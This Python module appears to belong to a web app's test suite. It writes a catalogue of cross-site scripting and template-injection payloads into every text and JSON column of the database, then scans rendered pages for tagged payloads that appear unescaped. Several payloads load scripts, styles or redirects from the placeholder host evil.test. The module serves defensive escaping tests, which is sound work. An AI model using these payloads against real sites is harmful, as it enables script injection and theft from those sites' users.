"""Words that want to become a page's code, and a way to put them into every text column that there is.

Behind each word stands a mark that says of which column it is and in which row it stood, so that a page can be asked
which words of which column it shows.
"""

import itertools
import re
from collections.abc import Iterator
from functools import cache
from typing import Any

from sqlalchemy import JSON, Column, Enum, LargeBinary, String, Table, Text, bindparam, select, update

from pilito.models import db

# What would run or load something. `x-hit` is a tag that no page of ours has, so that a parser finds it.
DEEDS = (
    "<x-hit>",
    "<script>alert(1)</script>",
    "<script src=//evil.test/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.test/p.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.test/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.test><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.test/a.mp3 autoplay>",
    "<body onload=alert(1)>",
    "<style>@import '//evil.test/a.css';</style>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<x-hit onmouseover=alert(1) style=position:fixed;inset:0>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
)
# What ends the place in which the words stand.
ENDS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    '" autofocus onfocus=alert(1) x="',
    "&quot;>",
)
OTHERS = (
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.test/x",
    "\\\\evil.test\\x",
    'https://evil.test/x" onmouseover="alert(1)',
    "{{ 7*7 }}{{ config }}",
    "{% import 'os' as os %}",
    "${7*7}",
    "<%= 7*7 %>",
    "\u202e<x-hit>\u202c",
    "\ufeff<x-hit>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--<x-hit>-->",
    "<![CDATA[<x-hit>]]>",
    "<x-hit\n/onerror\n=\nalert(1)>",
    "a@b<x-hit>",
)
WORDS = tuple(f"{end}{deed}" for end, deed in itertools.product(ENDS, DEEDS)) + OTHERS

# Columns that are no text to anybody: names of things of ours, which only our code writes.
OURS = {
    ("inbox", "channel"), ("webhook", "channel"), ("event", "channel"), ("comment", "channel"),
    ("inbox", "zone"), ("inbox", "hours"), ("inbox", "holidays"), ("inbox", "options"), ("inbox", "scopes"),
    ("share", "kind"), ("product", "currency"), ("source", "currency"), ("media_file", "key"), ("media_file", "mime_type"), ("media_file", "sha256"),
    ("operator", "language"), ("operator", "theme"), ("operator", "calendar"), ("operator", "digits"),
    ("operator_session", "secret_hash"), ("operator_session", "end_reason"), ("audit", "action"),
    ("message", "payload"), ("message", "origin"), ("attachment", "kind"), ("data_deletion", "channel"), ("search_entry", "words"),
    ("message", "reply_to_external_id"), ("reaction", "external_id"),  # ids of other rows, see hostile_shop.tie_again
}  # fmt: skip
# Where nothing stands, nothing stays: troubles that every page would tell, and names, without which a customer is called
# by an id.
STAYS_EMPTY = {
    ("inbox", "subscription_error"), ("inbox", "token_error"), ("inbox", "stop_reason"),
    ("customer", "name"), ("customer", "username"),
}  # fmt: skip
# Of which no page shows two: such a column holds all the words, one after the other, in its first rows.
TOGETHER = {
    ("inbox", "hand_over_line"), ("inbox", "outside_hours_line"), ("inbox", "machine_line"), ("instructions", "role"), ("instructions", "greeting"),
    ("instructions", "hand_over"), ("instructions", "promises"), ("instructions", "own_words"), ("draft", "text"), ("draft", "finding"),
    ("product", "description"), ("product", "link"), ("product", "picture_url"),
}  # fmt: skip
# Addresses that are followed only where they are ones: there a word stands behind the beginning of one, unless it is an
# address of its own kind.
ADDRESSES = {
    ("share", "url"), ("share", "permalink"), ("attachment", "url"), ("own_post", "permalink"), ("product", "link"),
    ("product", "picture_url"), ("product", "more_pictures"), ("source", "address"), ("web_page", "address"), ("passage", "address"),
}  # fmt: skip
ADDRESS = "https://shop.test/?"
# Keys of JSON by whose values our code chooses what it shows: in every other row they stay.
CHOOSING = {"source", "reference", "how", "kind"}
DIGITS = "0123456789abcdefghijklmnopqrstuvwxyz"
MARK = re.compile("~([0-9a-z]{2})([0-9a-z]{3})~")
MARK_LENGTH = 7

Column_ = tuple[str, str]


def texts(table: Table) -> Iterator[Column[Any]]:
    """The columns of a table that hold words from outside, or typed by somebody."""
    for column in table.columns:
        is_text = isinstance(column.type, String | Text) and not isinstance(column.type, Enum | LargeBinary)
        if is_text and (table.name, column.name) not in OURS and not column.foreign_keys:
            yield column


def leaves(table: Table) -> Iterator[Column[Any]]:
    """The columns of a table that hold JSON with such words."""
    for column in table.columns:
        if isinstance(column.type, JSON) and (table.name, column.name) not in OURS:
            yield column


def _all_columns() -> list[Column_]:
    return [
        (table.name, column.name)
        for table in db.metadata.sorted_tables
        if not table.name.startswith("alembic")
        for column in (*texts(table), *leaves(table))
    ]


# What is shown and is no column of ours: a file whose columns are being chosen, and what RQ keeps of a job in Redis.
BESIDES = [("file", "cell"), ("file", "header"), ("job", "description"), ("job", "exception")]
COLUMNS = _all_columns() + BESIDES
PLACES = {column: place for place, column in enumerate(COLUMNS)}


@cache
def room_of(column: Column_) -> int:
    """How many characters a word may have in it."""
    if column in BESIDES:
        return 4000
    length = getattr(db.metadata.tables[column[0]].columns[column[1]].type, "length", None)
    return max(0, length - MARK_LENGTH) if length else 4000


def word_of(column: Column_, number: int) -> str:
    """What stands in the column's row of this number, as much of it as has room."""
    return WORDS[which(column, number)][: room_of(column)]


def which(column: Column_, number: int) -> int:
    """Its place in WORDS. No two columns begin alike, and no two rounds: where only every fourth row is shown, they are
    others in each round."""
    return (number + number // len(WORDS) + 7 * PLACES[column]) % len(WORDS)


def marked(column: Column_, number: int) -> str:
    word = word_of(column, number)
    is_followed = column in ADDRESSES and word not in OTHERS
    return (
        f"{ADDRESS if is_followed else ''}{word}{_mark(column, number)}"
        if room_of(column)
        else WORDS[number % len(WORDS)][:5]
    )


def _mark(column: Column_, number: int) -> str:
    return f"~{_in_letters(PLACES[column], 2)}{_in_letters(number, 3)}~"


def _in_letters(number: int, width: int) -> str:
    letters = ""
    for _ in range(width):
        number, rest = divmod(number, len(DIGITS))
        letters = DIGITS[rest] + letters
    return letters


def spread(turn: int = 0) -> None:
    """Put a word into every text column of every row, and into every leaf of the JSON ones.

    A table with as many rows as there are words holds each of them in each column, alone. Another turn puts them into
    other rows, under numbers of its own: of what must be unique, no row may have what another still has.
    """
    first = turn % 20 * 2000
    for table in db.metadata.sorted_tables:
        key = next(iter(table.primary_key.columns), None)
        columns = list(texts(table))
        if key is None or table.name.startswith("alembic") or not (columns or list(leaves(table))):
            continue
        trees = [(column, itertools.count(first)) for column in leaves(table)]
        rows = db.session.execute(
            select(key.label("_key"), *columns, *(column for column, _ in trees)).order_by(key)
        ).all()
        values = []
        for place, row in enumerate(rows):
            found = row._mapping  # noqa: SLF001  (SQLAlchemy's own public name)
            values.append(
                {"_key": row[0]}
                | {f"_{column.name}": _word_for(column, first, place, found[column]) for column in columns}
                | {f"_{column.name}": _poisoned(found[column], column, numbers) for column, numbers in trees}
            )
        if values:
            changes = {name.removeprefix("_"): bindparam(name) for name in values[0] if name != "_key"}
            db.session.execute(update(table).where(key == bindparam("_key")).values(changes), values)


def _word_for(column: Column[Any], first: int, place: int, value: str | None) -> str | None:
    name = (column.table.name, column.name)
    if name in STAYS_EMPTY and value is None:
        return None
    if name in TOGETHER and place < 10:
        return "\n".join(marked(name, one) for one in range(len(WORDS)))
    return marked(name, first + place)


def _poisoned(value: Any, column: Column[Any], numbers: Iterator[int], is_kept: bool = False) -> Any:
    if isinstance(value, dict):
        keeps = next(numbers) % 2
        return {name: _poisoned(one, column, numbers, name in CHOOSING and bool(keeps)) for name, one in value.items()}
    if isinstance(value, list):
        return [_poisoned(one, column, numbers, is_kept) for one in value]
    if not isinstance(value, str) or is_kept:
        return value
    return marked((column.table.name, column.name), next(numbers))


# --- what is shown ---------------------------------------------------------------------------------------------------


def words_in(text: str) -> Iterator[tuple[Column_, int]]:
    """Which words of which columns stand in this text as they were written, by their place in WORDS."""
    for mark in MARK.finditer(text):
        place, number = int(mark[1], 36), int(mark[2], 36)
        if place < len(COLUMNS):
            before = " ".join(text[max(0, mark.start() - 200) : mark.start()].split())
            if before.endswith(" ".join(word_of(COLUMNS[place], number).split())):
                yield COLUMNS[place], which(COLUMNS[place], number)


def search_words(column: Column_) -> str:
    """What finds every row of the column: the beginning of its marks."""
    return f"{_in_letters(PLACES[column], 2)}0"
